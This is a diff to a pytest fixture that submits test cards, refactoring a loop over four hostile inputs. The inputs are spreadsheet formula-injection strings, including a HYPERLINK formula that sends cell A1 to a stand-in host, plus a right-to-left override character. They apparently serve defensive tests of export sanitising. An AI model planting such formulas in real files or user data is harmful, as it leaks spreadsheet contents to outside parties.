@@ -21,8 +21,9 @@ def evening(migrated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterato
     made.do("card.redact", card=cards[1], start=0, end=4)
     made.do("card.merge", card=cards[2], into=cards[3])
     step = made.steps["cards", "phantasie"]
-    for text in ('=HYPERLINK("http://example.invalid/?d="&A1;"Zur Anmeldung")', "@SUM(1+1)", "-2+3", "\u202eabc"):
-        made.cards[text] = made.do("card.submit", step=step, text=text, lang="de", source="paper", paper=7)["id"]
+    hostile = ('=HYPERLINK("http://example.invalid/?d="&A1;"Zur Anmeldung")', "@SUM(1+1)", "-2+3", "\u202eabc")
+    for number, text in enumerate(hostile, 7):
+        made.cards[text] = made.do("card.submit", step=step, text=text, lang="de", source="paper", paper=number)["id"]
     yield made
     store.database.engine.dispose()
 
